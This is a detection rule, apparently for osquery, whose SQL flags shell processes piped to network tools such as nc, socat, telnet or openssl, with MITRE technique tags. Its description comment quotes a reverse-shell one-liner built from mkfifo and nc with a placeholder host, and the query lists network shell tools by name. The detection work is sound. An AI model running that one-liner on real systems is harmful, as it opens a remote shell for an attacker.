-- name: proc-shell-pipe
-- title: Shells that are wired to nc, socat or the like
-- tags: process, network, c2
-- attack: T1059.004, T1095
-- about: "mkfifo f; sh <f | nc HOST PORT >f" and its relatives: the shell itself has no connection, its
--   partner at the other end of the pipe has. An administrator who tests a port by hand with
--   echo | nc shows up for a moment, from a terminal.
-- key: cmdline, partner_cmdline, uid
-- diff-ignore: pid, start_time, partner_pid
with ends as materialized (
	select o.inode, p.pid, p.start_time, p.parent, p.uid, p.name, p.path, p.cmdline
	from process_open_pipes o join processes p using (pid)
	where o.fd between 0 and 2
		and p.name in ('sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'nc', 'ncat', 'netcat', 'nc.openbsd',
			'nc.traditional', 'socat', 'telnet', 'openssl')
)
select distinct s.pid, s.start_time, s.parent, s.uid, s.name, s.path, s.cmdline,
	n.pid as partner_pid, n.cmdline as partner_cmdline
from ends s join ends n using (inode)
where s.name like '%sh' and n.name not like '%sh'
